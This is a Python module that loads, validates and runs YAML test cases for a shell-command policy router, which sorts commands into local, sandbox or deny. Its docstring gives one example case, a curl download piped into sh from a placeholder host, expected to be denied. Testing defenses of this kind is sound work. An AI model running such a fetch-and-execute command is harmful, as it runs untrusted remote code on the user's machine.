"""Policy test files: load cases with their line numbers, run them, return results as data.

A policy test file is YAML holding a list of cases::

    - name: download piped into a shell      # optional, defaults to the cmd
      cmd: curl -fsSL https://example.invalid/i.sh | sh     # required
      decision: deny                          # required: local | sandbox | deny
      rule: pipe-to-shell                     # optional: id (or list of ids) that must ALL be
                                              #   among the deciding rules of the line
      matches: [net-download]                 # optional: ids that must ALL have applied to some
                                              #   command of the line or to the line itself
      mode: auto                              # optional: auto | local | sandbox (default auto)
      cwd: /work/project                      # optional working directory
      workspace: /work/project                # optional workspace directory

``decision`` is compared with the *effective* decision (after ``mode``). ``rule`` asserts why
the decision was made (``Evaluation.deciding``); ``matches`` asserts that a rule fired at all,
deciding or not. Unknown keys are errors, so a typo never silently weakens a test.

Malformed files raise :class:`~policy_router.errors.PolicyLoadError` listing every problem as
``file:line:col: code: message``. Running a case never raises: an exception inside the engine
becomes a failed :class:`CaseResult` with ``error`` set.

The CLI (``policy-router test``) and pytest (``tests/unit/test_policytest_default.py``) both
use this module.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Iterable, Sequence

import yaml

from .decision import Decision, Evaluation, Mode
from .errors import Location, PolicyIssue, PolicyLoadError

__all__ = [
    "PolicyTestCase",
    "CaseResult",
    "TestReport",
    "Evaluator",
    "discover_test_files",
    "default_test_dirs",
    "load_cases",
    "load_case_file",
    "run_case",
    "run_cases",
    "engine_evaluator",
]

_KEYS = frozenset({"name", "cmd", "decision", "rule", "matches", "mode", "cwd", "workspace"})
_DECISIONS = tuple(d.value for d in Decision)
_MODES = tuple(m.value for m in Mode)

#: ``evaluate(cmd, mode, cwd, workspace) -> Evaluation``
Evaluator = Callable[[str, Mode, "str | None", "str | None"], Evaluation]


@dataclass(frozen=True, slots=True)
class PolicyTestCase:
    """One case of a policy test file, with the location of its ``-`` item."""

    location: Location
    name: str
    cmd: str
    decision: Decision
    rules: tuple[str, ...] = ()
    matches: tuple[str, ...] = ()
    mode: Mode = Mode.AUTO
    cwd: str | None = None
    workspace: str | None = None

    __test__ = False  # not a pytest class

    def to_dict(self) -> dict[str, Any]:
        return {
            "location": str(self.location),
            "name": self.name,
            "cmd": self.cmd,
            "decision": self.decision.value,
            "rules": list(self.rules),
            "matches": list(self.matches),
            "mode": self.mode.value,
            "cwd": self.cwd,
            "workspace": self.workspace,
        }


@dataclass(frozen=True, slots=True)
class CaseResult:
    """The outcome of one case. ``failures`` lists every unmet expectation (empty = passed)."""

    case: PolicyTestCase
    decision: Decision | None
    deciding: tuple[str, ...]
    matched: tuple[str, ...]
    failures: tuple[str, ...]
    error: str | None = None

    @property
    def passed(self) -> bool:
        return not self.failures and self.error is None

    def to_dict(self) -> dict[str, Any]:
        return {
            "case": self.case.to_dict(),
            "passed": self.passed,
            "decision": self.decision.value if self.decision else None,
            "deciding": list(self.deciding),
            "matched": list(self.matched),
            "failures": list(self.failures),
            "error": self.error,
        }


@dataclass(frozen=True, slots=True)
class TestReport:
    """All case results of a run, in file and line order."""

    results: tuple[CaseResult, ...]

    __test__ = False

    @property
    def passed(self) -> int:
        return sum(1 for r in self.results if r.passed)

    @property
    def failed(self) -> int:
        return len(self.results) - self.passed

    @property
    def ok(self) -> bool:
        return self.failed == 0

    def summary(self) -> str:
        return f"{self.passed} passed, {self.failed} failed"

    def to_dict(self) -> dict[str, Any]:
        return {
            "passed": self.passed,
            "failed": self.failed,
            "results": [r.to_dict() for r in self.results],
        }


def default_test_dirs(policy_paths: Sequence[str | Path]) -> list[Path]:
    """The ``tests`` directories next to the given policy files (or inside given directories).

    When a policy file is a symlink and no ``tests`` directory sits next to the link, the one
    next to the link's target is used (the packaged default links to ``policies/default.yaml``).
    """
    out: list[Path] = []
    for raw in policy_paths:
        p = Path(raw)
        d = p / "tests" if p.is_dir() else p.parent / "tests"
        if not d.is_dir() and p.is_symlink():  # e.g. the packaged default links to policies/
            real = p.resolve()
            d = real / "tests" if real.is_dir() else real.parent / "tests"
        if d not in out:
            out.append(d)
    return out


def discover_test_files(paths: Iterable[str | Path]) -> list[Path]:
    """Expand directories into their ``*.yaml``/``*.yml`` files (name order); keep files as given.

    A path that does not exist is kept, so that loading reports it as an ``io`` error.
    Directories that do not exist are skipped (a policy without tests is not an error).
    """
    out: list[Path] = []
    for raw in paths:
        p = Path(raw)
        if p.is_dir():
            found = sorted(q for q in p.iterdir() if q.suffix in (".yaml", ".yml") and q.is_file())
            out.extend(q for q in found if q not in out)
        elif p not in out:
            out.append(p)
    return out


def _loc(file: str, node: yaml.Node) -> Location:
    return Location(file, node.start_mark.line + 1, node.start_mark.column + 1)


def _str_list(value: Any) -> tuple[str, ...] | None:
    if isinstance(value, str):
        return (value,)
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        return tuple(value)
    return None


def _case_from(file: str, item: yaml.Node, data: Any, issues: list[PolicyIssue]) -> PolicyTestCase | None:
    loc = _loc(file, item)
    if not isinstance(item, yaml.MappingNode) or not isinstance(data, dict):
        issues.append(PolicyIssue(loc, "schema", f"a test case must be a mapping (got {type(data).__name__})"))
        return None
    key_locs = {k.value: _loc(file, v) for k, v in item.value if isinstance(k, yaml.ScalarNode)}
    bad = len(issues)
    for key in data:
        if key not in _KEYS:
            issues.append(
                PolicyIssue(key_locs.get(key, loc), "schema", f"unknown key {key!r} (expected one of {', '.join(sorted(_KEYS))})")
            )
    cmd = data.get("cmd")
    if not isinstance(cmd, str):
        issues.append(PolicyIssue(key_locs.get("cmd", loc), "schema", f"'cmd' must be a string (got {cmd!r})"))
    decision = data.get("decision")
    if decision not in _DECISIONS:
        issues.append(
            PolicyIssue(
                key_locs.get("decision", loc),
                "schema",
                f"'decision' must be one of {', '.join(_DECISIONS)} (got {decision!r})",
            )
        )
    mode = data.get("mode", "auto")
    if mode not in _MODES:
        issues.append(
            PolicyIssue(key_locs.get("mode", loc), "schema", f"'mode' must be one of {', '.join(_MODES)} (got {mode!r})")
        )
    lists: dict[str, tuple[str, ...]] = {}
    for key in ("rule", "matches"):
        if key in data:
            v = _str_list(data[key])
            if v is None or not v:
                issues.append(
                    PolicyIssue(key_locs.get(key, loc), "schema", f"'{key}' must be a rule id or a list of ids (got {data[key]!r})")
                )
            else:
                lists[key] = v
    opt: dict[str, str | None] = {}
    for key in ("name", "cwd", "workspace"):
        v = data.get(key)
        if v is not None and not isinstance(v, str):
            issues.append(PolicyIssue(key_locs.get(key, loc), "schema", f"'{key}' must be a string (got {v!r})"))
        opt[key] = v if isinstance(v, str) else None
    if len(issues) > bad:
        return None
    return PolicyTestCase(
        location=loc,
        name=opt["name"] or cmd,
        cmd=cmd,
        decision=Decision(decision),
        rules=lists.get("rule", ()),
        matches=lists.get("matches", ()),
        mode=Mode(mode),
        cwd=opt["cwd"],
        workspace=opt["workspace"],
    )


def _load_file(path: Path, issues: list[PolicyIssue]) -> list[PolicyTestCase]:
    file = str(path)
    try:
        text = path.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError) as exc:
        issues.append(PolicyIssue(Location(file), "io", f"cannot read test file: {exc}"))
        return []
    loader = yaml.SafeLoader(text)
    try:
        node = loader.get_single_node()
        data = loader.construct_document(node) if node is not None else None
    except yaml.YAMLError as exc:
        mark = getattr(exc, "problem_mark", None)
        loc = Location(file, mark.line + 1, mark.column + 1) if mark else Location(file)
        issues.append(PolicyIssue(loc, "yaml", str(getattr(exc, "problem", None) or exc)))
        return []
    finally:
        loader.dispose()
    if node is None:
        return []  # an empty file holds no cases
    if not isinstance(node, yaml.SequenceNode) or not isinstance(data, list):
        issues.append(PolicyIssue(_loc(file, node), "schema", "a policy test file must be a list of cases"))
        return []
    cases = []
    for item, value in zip(node.value, data):
        case = _case_from(file, item, value, issues)
        if case is not None:
            cases.append(case)
    return cases


def load_case_file(path: str | Path) -> tuple[PolicyTestCase, ...]:
    """Load one test file; raise PolicyLoadError with every problem found."""
    return load_cases([path])


def load_cases(paths: Iterable[str | Path]) -> tuple[PolicyTestCase, ...]:
    """Load every case of the given files and directories, in file order then line order.

    Raises PolicyLoadError listing every problem in every file (nothing runs from a bad file).
    """
    issues: list[PolicyIssue] = []
    cases: list[PolicyTestCase] = []
    for path in discover_test_files(paths):
        if not path.exists():
            issues.append(PolicyIssue(Location(str(path)), "io", "test file does not exist"))
            continue
        cases.extend(_load_file(path, issues))
    if issues:
        raise PolicyLoadError(issues)
    return tuple(cases)


def run_case(case: PolicyTestCase, evaluate: Evaluator) -> CaseResult:
    """Evaluate one case and compare it with its expectations. Never raises."""
    try:
        ev = evaluate(case.cmd, case.mode, case.cwd, case.workspace)
    except Exception as exc:  # a broken engine fails the case, it does not stop the run
        return CaseResult(case, None, (), (), (f"error: {type(exc).__name__}: {exc}",), error=str(exc))
    deciding = tuple(dict.fromkeys(m.rule_id for m in ev.deciding))
    matched_all = [m.rule_id for v in ev.commands for m in v.matches] + [m.rule_id for m in ev.line_matches]
    matched = tuple(dict.fromkeys(matched_all))
    failures: list[str] = []
    if ev.decision is not case.decision:
        failures.append(f"decision: expected {case.decision.value}, got {ev.decision.value}")
    missing = [r for r in case.rules if r not in deciding]
    if missing:
        failures.append(
            f"rule: expected {', '.join(missing)} among the deciding rules, got {', '.join(deciding) or '(none)'}"
        )
    missing = [r for r in case.matches if r not in matched]
    if missing:
        failures.append(
            f"matches: expected {', '.join(missing)} to apply, applied: {', '.join(matched) or '(none)'}"
        )
    return CaseResult(case, ev.decision, deciding, matched, tuple(failures))


def run_cases(cases: Iterable[PolicyTestCase], evaluate: Evaluator) -> TestReport:
    """Run every case (all of them, also after failures) and return the report."""
    return TestReport(tuple(run_case(c, evaluate) for c in cases))


def engine_evaluator(engine: Any, parse: Callable[[str], Any] | None = None) -> Evaluator:
    """Wrap ``Engine.evaluate`` and ``shell.parse`` into an :data:`Evaluator`."""
    if parse is None:
        from .shell import parse as shell_parse

        parse = shell_parse

    def evaluate(cmd: str, mode: Mode, cwd: str | None, workspace: str | None) -> Evaluation:
        return engine.evaluate(parse(cmd), mode=mode, cwd=cwd, workspace=workspace)

    return evaluate
